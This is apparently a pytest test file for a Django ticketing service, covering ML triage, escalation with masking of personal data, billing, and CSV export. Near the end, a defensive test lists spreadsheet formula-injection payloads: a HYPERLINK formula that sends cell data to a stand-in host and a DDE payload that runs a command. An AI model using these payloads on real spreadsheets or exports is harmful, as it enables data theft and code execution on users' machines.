"""The enterprise side of a ticket through its services and pages: submit with real triage
(a tiny model trained once per session), suggestions and feedback, corrections, escalation,
accepting and rating an expert's answer, reopening, bad input, isolation."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from django.utils.html import strip_tags

from accounts.models import Role
from billing.models import BillingAccount, ExpertEarning, UsageRecord
from billing.services import billing_account_for
from ml.labels import collect_labels
from ml.services import embedding_index_rebuild
from solutions.models import (
    Claim,
    ExpertAnswer,
    ExpertProfile,
    Feedback,
    KnowledgeArticle,
    Ticket,
    TicketSuggestion,
)
from solutions.services import tickets as services

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 64


@pytest.fixture
def org_with_model(make_org_with_model):
    """An organization whose champion is the tiny model, with answers to retrieve."""
    return make_org_with_model()


@pytest.fixture
def agent(org_with_model, make_user, add_member):
    user = make_user()
    add_member(org_with_model, user, Role.AGENT)
    return user


def _submit(org, author, title="VPN router keeps dropping", body="the vpn and wifi router drop"):
    return services.ticket_submit(organization=org, author=author, title=title, body=body)


def test_submit_without_a_model_keeps_the_ticket_and_says_why(make_org):
    org = make_org()
    owner = org.memberships.get().user
    ticket = _submit(org, owner)
    assert ticket.number == 1 and ticket.status == Ticket.Status.NEEDS_EXPERT
    assert ticket.triage_unavailable_reason == "no_model"
    assert list(ticket.events.values_list("kind", flat=True)) == ["submitted", "triage_unavailable"]
    assert _submit(org, owner).number == 2


def test_submit_triages_and_proposes_the_closest_answer(org_with_model, agent):
    ticket = _submit(org_with_model, agent)
    assert ticket.predicted_category == "network" == ticket.category
    assert 0 < (ticket.category_confidence or 0) <= 1
    assert ticket.predicted_priority in {"low", "medium", "high"}
    assert ticket.model_version is not None and ticket.model_version.version == 1
    suggestions = list(ticket.suggestions.all())
    assert [s.rank for s in suggestions] == [1, 2, 3]
    assert suggestions[0].title == "VPN router drops"
    assert suggestions[0].score >= suggestions[1].score
    threshold = services.solution_settings_for(org_with_model).auto_answer_threshold
    expected = Ticket.Status.AI_SUGGESTED if suggestions[0].score >= threshold else "needs_expert"
    assert ticket.status == expected
    assert suggestions[0].proposed == (ticket.status == Ticket.Status.AI_SUGGESTED)


def test_a_threshold_above_every_similarity_sends_the_ticket_to_experts(org_with_model, agent):
    owner = org_with_model.memberships.get(role=Role.OWNER).user
    services.solution_settings_update(
        organization=org_with_model, actor=owner, auto_answer_threshold=1.0, categories=[]
    )
    ticket = _submit(org_with_model, agent)
    assert ticket.status == Ticket.Status.NEEDS_EXPERT
    assert not ticket.suggestions.filter(proposed=True).exists()
    assert ticket.suggestions.count() == 3  # still shown, just not proposed


def test_this_solved_it_resolves_bills_once_and_becomes_a_label(org_with_model, agent):
    ticket = _submit(org_with_model, agent)
    suggestion = ticket.suggestions.get(rank=1)
    services.suggestion_feedback(
        ticket=ticket, actor=agent, suggestion_id=suggestion.pk, solved=True
    )
    ticket.refresh_from_db()
    assert ticket.status == Ticket.Status.RESOLVED and ticket.resolution == "ai"
    with pytest.raises(ValidationError):
        services.suggestion_feedback(
            ticket=ticket, actor=agent, suggestion_id=suggestion.pk, solved=True
        )
    [usage] = UsageRecord.objects.filter(organization=org_with_model)
    assert usage.kind == "ai_answer" and usage.ticket_id == ticket.pk
    rows = {r.key: r for r in collect_labels(org_with_model)}
    assert rows[f"ticket:{ticket.pk}"].category == "network"


def test_not_helpful_on_the_proposal_marks_the_ticket_for_an_expert(org_with_model, agent):
    owner = org_with_model.memberships.get(role=Role.OWNER).user
    services.solution_settings_update(
        organization=org_with_model, actor=owner, auto_answer_threshold=0.0, categories=[]
    )
    ticket = _submit(org_with_model, agent)
    assert ticket.status == Ticket.Status.AI_SUGGESTED
    proposed = ticket.suggestions.get(proposed=True)
    services.suggestion_feedback(
        ticket=ticket, actor=agent, suggestion_id=proposed.pk, solved=False
    )
    ticket.refresh_from_db()
    assert ticket.status == Ticket.Status.NEEDS_EXPERT
    assert Feedback.objects.get(ticket=ticket).kind == Feedback.Kind.SUGGESTION_REJECTED
    # A rejection alone confirms nothing: it is not a training label.
    assert f"ticket:{ticket.pk}" not in {r.key for r in collect_labels(org_with_model)}


def test_corrections_are_validated_and_become_labels(org_with_model, agent):
    ticket = _submit(org_with_model, agent)
    with pytest.raises(ValidationError) as err:
        services.ticket_correct(ticket=ticket, actor=agent, category="Plumbing")
    assert "not one of this organization's categories" in str(err.value)
    with pytest.raises(ValidationError):
        services.ticket_correct(ticket=ticket, actor=agent, priority="urgent!!")
    services.ticket_correct(ticket=ticket, actor=agent, category="HARDWARE", priority="critical")
    ticket.refresh_from_db()
    assert (ticket.category, ticket.priority) == ("hardware", "critical")
    assert ticket.category_corrected and ticket.priority_corrected
    assert ticket.predicted_category == "network"  # the prediction is kept for evaluation
    [row] = [r for r in collect_labels(org_with_model) if r.key == f"ticket:{ticket.pk}"]
    assert (row.category, row.priority) == ("hardware", "critical")


def test_escalation_masks_the_expert_copy_at_the_confirmed_price(org_with_model, agent):
    ticket = _submit(
        org_with_model,
        agent,
        body="Hi team, the vpn router drops. Reach me at jane.doe@acme.example, "
        "password: Hunter2!secret",
    )
    price = services.escalation_price_cents(ticket)
    with pytest.raises(ValidationError, match="price changed"):
        services.ticket_escalate(ticket=ticket, actor=agent, confirmed_price_cents=price + 1)
    ticket = services.ticket_escalate(ticket=ticket, actor=agent, confirmed_price_cents=price)
    assert ticket.status == Ticket.Status.ESCALATED and ticket.expert_price_cents == price
    assert "jane.doe@acme.example" not in ticket.masked_body
    assert "Hunter2!secret" not in ticket.masked_body
    assert "jane.doe@acme.example" in ticket.body  # the enterprise keeps the original
    with pytest.raises(ValidationError, match="can't be escalated"):
        services.ticket_escalate(ticket=ticket, actor=agent, confirmed_price_cents=price)


def _answered(ticket, make_expert, body="Renew the **DHCP lease**; mail ops@acme.example."):
    expert = make_expert(skills=("network",))
    claim = Claim.objects.create(
        ticket=ticket,
        expert=expert,
        due_at=timezone.now() + timedelta(hours=4),
        status=Claim.Status.ANSWERED,
    )
    answer = ExpertAnswer.objects.create(
        ticket=ticket, expert=expert, claim=claim, body=body, price_cents=ticket.expert_price_cents
    )
    Ticket.objects.filter(pk=ticket.pk).update(status=Ticket.Status.ANSWERED, assignee=expert)
    ticket.refresh_from_db()
    return expert, answer


def test_accepting_an_answer_rates_bills_and_keeps_a_masked_article(
    org_with_model, agent, make_expert, django_capture_on_commit_callbacks
):
    ticket = _submit(org_with_model, agent)
    price = services.escalation_price_cents(ticket)
    ticket = services.ticket_escalate(ticket=ticket, actor=agent, confirmed_price_cents=price)
    expert, answer = _answered(ticket, make_expert)
    with django_capture_on_commit_callbacks(execute=True):
        services.expert_answer_accept(
            ticket=ticket, actor=agent, answer_id=answer.pk, score=4, comment="Worked"
        )
    ticket.refresh_from_db()
    assert ticket.status == Ticket.Status.RESOLVED and ticket.resolution == "expert"
    profile = ExpertProfile.objects.get(user=expert)
    assert (profile.rating_count, profile.rating_average) == (1, 4.0)
    [usage] = UsageRecord.objects.filter(kind="expert_answer")
    assert usage.unit_price_cents == price
    [earning] = ExpertEarning.objects.filter(expert=expert)
    assert earning.gross_cents == price and earning.status == "available"
    assert earning.net_cents == price - earning.commission_cents > 0
    article = KnowledgeArticle.objects.get(organization=org_with_model, source_ticket=ticket)
    assert article.source == "expert_answer" and "DHCP lease" in article.body
    assert "ops@acme.example" not in article.body
    assert [m.to for m in mail.outbox] == [[expert.email]]
    with pytest.raises(ValidationError):
        services.expert_answer_accept(ticket=ticket, actor=agent, answer_id=answer.pk, score=5)
    assert UsageRecord.objects.filter(kind="expert_answer").count() == 1
    kinds = set(Feedback.objects.filter(ticket=ticket).values_list("kind", flat=True))
    assert {"expert_answer", "rating"} <= kinds


def test_a_ticket_is_reopened_once(org_with_model, agent, make_expert):
    ticket = _submit(org_with_model, agent)
    ticket = services.ticket_escalate(
        ticket=ticket, actor=agent, confirmed_price_cents=services.escalation_price_cents(ticket)
    )
    _, answer = _answered(ticket, make_expert)
    with pytest.raises(ValidationError):
        services.ticket_reopen(ticket=ticket, actor=agent, answer_id=answer.pk, follow_up="no")
    ticket = services.ticket_reopen(
        ticket=ticket, actor=agent, answer_id=answer.pk, follow_up="Still drops after the lease."
    )
    assert ticket.status == Ticket.Status.ESCALATED and ticket.reopen_count == 1
    assert "Still drops after the lease." in ticket.masked_body
    _, second = _answered(ticket, make_expert)
    with pytest.raises(ValidationError, match="reopened once"):
        services.ticket_reopen(
            ticket=ticket, actor=agent, answer_id=second.pk, follow_up="And again, still broken."
        )


@pytest.mark.parametrize(
    ("title", "body", "files", "field"),
    [
        ("VPN down", "", [], "body"),
        ("VPN down", "x" * (1024 * 1024), [], "body"),
        ("", "The vpn is down", [], "title"),
        ("VPN down", "The vpn is down", [SimpleUploadedFile("tool.exe", ELF)], "attachments"),
        ("VPN down", "The vpn is down", [SimpleUploadedFile("notes.txt", ELF)], "attachments"),
        (
            "VPN down",
            "The vpn is down",
            [SimpleUploadedFile("big.log", b"a" * (11 * 2**20))],
            "attachments",
        ),
    ],
)
def test_bad_input_is_refused_and_nothing_is_saved(make_org, title, body, files, field):
    org = make_org()
    with pytest.raises(ValidationError) as err:
        services.ticket_submit(
            organization=org,
            author=org.memberships.get().user,
            title=title,
            body=body,
            attachments=files,
        )
    assert field in err.value.message_dict
    assert not Ticket.objects.exists()


def test_pages_submit_list_filter_and_detail(org_with_model, agent, login):
    client = login(agent)
    response = client.post(
        reverse("ticket_submit"),
        {
            "title": "VPN router keeps dropping",
            "body": "the vpn and wifi router drop",
            "attachments": [SimpleUploadedFile("screen.png", PNG)],
        },
    )
    ticket = Ticket.objects.get(organization=org_with_model)
    assert response.status_code == 302 and response.url == reverse("ticket_detail", args=[1])
    page = client.get(response.url).content.decode()
    # The suggestion's title has the words it shares with the ticket marked.
    assert "VPN router drops" in strip_tags(page)
    assert "confident" in page and "screen.png" in page
    download = client.get(reverse("ticket_attachment", args=[1, ticket.attachments.get().pk]))
    assert download["Content-Disposition"].startswith("attachment")
    assert download["Content-Type"] == "application/octet-stream"
    assert download["X-Content-Type-Options"] == "nosniff"

    listing = client.get(reverse("ticket_list"), {"category": "network", "q": "router"})
    assert "VPN router keeps dropping" in listing.content.decode()
    assert (
        "VPN router"
        not in client.get(reverse("ticket_list"), {"status": "closed"}).content.decode()
    )

    bad = client.post(reverse("ticket_submit"), {"title": "x", "body": ""})
    assert bad.status_code == 400 and Ticket.objects.count() == 1


def test_page_actions_solve_and_escalate(org_with_model, agent, login):
    client = login(agent)
    ticket = _submit(org_with_model, agent)
    confirm = client.get(reverse("ticket_escalate", args=[ticket.number]))
    price = services.escalation_price_cents(ticket)
    assert f"${price / 100:,.2f}" in confirm.content.decode()
    stale = client.post(
        reverse("ticket_escalate", args=[ticket.number]),
        {"price_cents": "1", "terms": "Project Falcon", "intent": "escalate"},
    )
    # The page comes back with the error and with the words the agent typed, not emptied.
    assert stale.status_code == 400
    assert "The price changed" in stale.content.decode()
    assert "Project Falcon" in stale.content.decode()
    ticket.refresh_from_db()
    assert ticket.status != Ticket.Status.ESCALATED
    client.post(reverse("ticket_escalate", args=[ticket.number]), {"price_cents": str(price)})
    ticket.refresh_from_db()
    assert ticket.status == Ticket.Status.ESCALATED

    other = _submit(org_with_model, agent)
    suggestion = other.suggestions.get(rank=1)
    client.post(
        reverse("ticket_action", args=[other.number, "solved"]), {"suggestion": suggestion.pk}
    )
    other.refresh_from_db()
    assert other.status == Ticket.Status.RESOLVED
    assert TicketSuggestion.objects.get(pk=suggestion.pk).feedback == "solved"
    nonsense = client.post(
        reverse("ticket_action", args=[other.number, "solved"]), {"suggestion": "x"}
    )
    assert nonsense.status_code == 302  # a flash message, not a 500


def test_settings_page_is_for_managers(org_with_model, agent, login):
    assert login(agent).get(reverse("solution_settings")).status_code == 403
    owner = org_with_model.memberships.get(role=Role.OWNER).user
    client = login(owner)
    assert (
        client.post(
            reverse("solution_settings"), {"auto_answer_threshold": "1.5", "categories": ""}
        ).status_code
        == 400
    )
    client.post(
        reverse("solution_settings"),
        {
            "auto_answer_threshold": "0.75",
            "precision_target": "95",
            "categories": "Network\nhardware\nnetwork\n\n",
        },
    )
    current = services.solution_settings_for(org_with_model)
    assert current.auto_answer_threshold == 0.75 and current.categories == ["Network", "hardware"]


def test_tickets_waiting_for_a_model_are_triaged_when_a_champion_is_ready(
    make_org, install_champion, django_capture_on_commit_callbacks
):
    org = make_org()
    owner = org.memberships.get().user
    waiting = _submit(org, owner)
    assert waiting.triage_unavailable_reason == "no_model"
    install_champion(org)
    with django_capture_on_commit_callbacks(execute=True):
        embedding_index_rebuild(organization=org)  # sends ml.signals.champion_ready
    waiting.refresh_from_db()
    assert waiting.triage_unavailable_reason == "" and waiting.predicted_category == "network"
    assert waiting.events.filter(kind="triaged").exists()


def test_a_canceled_subscription_takes_no_new_tickets_or_escalations(
    org_with_model, agent, settings, login
):
    ticket = _submit(org_with_model, agent)
    settings.STRIPE_SECRET_KEY = "sk_test_enforcement"  # noqa: S105 - no call reaches Stripe
    account = billing_account_for(org_with_model)
    account.status = BillingAccount.Status.CANCELED
    account.save()
    with pytest.raises(ValidationError, match="read-only|canceled|subscription"):
        _submit(org_with_model, agent)
    with pytest.raises(ValidationError):
        services.ticket_escalate(
            ticket=ticket,
            actor=agent,
            confirmed_price_cents=services.escalation_price_cents(ticket),
        )
    assert Ticket.objects.filter(organization=org_with_model).count() == 1
    page = login(agent).get(reverse("ticket_detail", args=[ticket.number])).content.decode()
    assert 'data-testid="billing-banner"' in page  # reads stay allowed, with the reason shown
    assert 'data-testid="escalate"' not in page


def test_tickets_export_as_csv_with_the_filters_and_only_this_organization(
    org_with_model, agent, make_org, login
):
    _submit(org_with_model, agent, title="VPN router keeps dropping")
    _submit(org_with_model, agent, title="Printer jam on floor 2", body="the printer jams")
    other = make_org()
    services.ticket_submit(
        organization=other, author=other.memberships.get().user, title="Secret", body="x y z"
    )
    client = login(agent)
    response = client.get(reverse("ticket_export"), {"q": "printer"})
    assert response["Content-Disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["number", "title", "body"]
    assert [r[1] for r in rows[1:]] == ["Printer jam on floor 2"]
    everything = b"".join(client.get(reverse("ticket_export")).streaming_content).decode()
    assert "VPN router" in everything and "Secret" not in everything


FORMULAS = [
    ('=HYPERLINK("https://evil.example/?leak="&A2,"Open")', "=1+1"),
    ("+1 printer on floor 2", "+1"),
    ("-2+3 monitors flicker", "-2+3"),
    ("@SUM(A1:A9) in the budget sheet", "@SUM(1+1)*cmd|' /C calc'!A0"),
]


def test_the_csv_export_neutralizes_cells_a_spreadsheet_would_run_as_formulas(
    org_with_model, agent, login
):
    for title, body in FORMULAS:
        _submit(org_with_model, agent, title=title, body=body)
    response = login(agent).get(reverse("ticket_export"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, data = rows[0], rows[1:]
    cells = [dict(zip(header, row, strict=True)) for row in data]
    assert [(c["title"], c["body"]) for c in cells] == [
        (f"'{title}", f"'{body}") for title, body in FORMULAS
    ]
    # Numbers people did not write stay numbers.
    assert [c["number"] for c in cells] == [str(n) for n in range(1, len(FORMULAS) + 1)]
    assert all(not c["category_confidence"].startswith("'") for c in cells)
    assert all(c["created_at"][:1].isdigit() for c in cells)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Printer = broken", "Printer = broken"),
        ("", ""),
        (-2, -2),
        (0.25, 0.25),
        (None, None),
    ],
)
def test_spreadsheet_cells(value, cell):
    from solutions.exports import spreadsheet_cell

    assert spreadsheet_cell(value) == cell
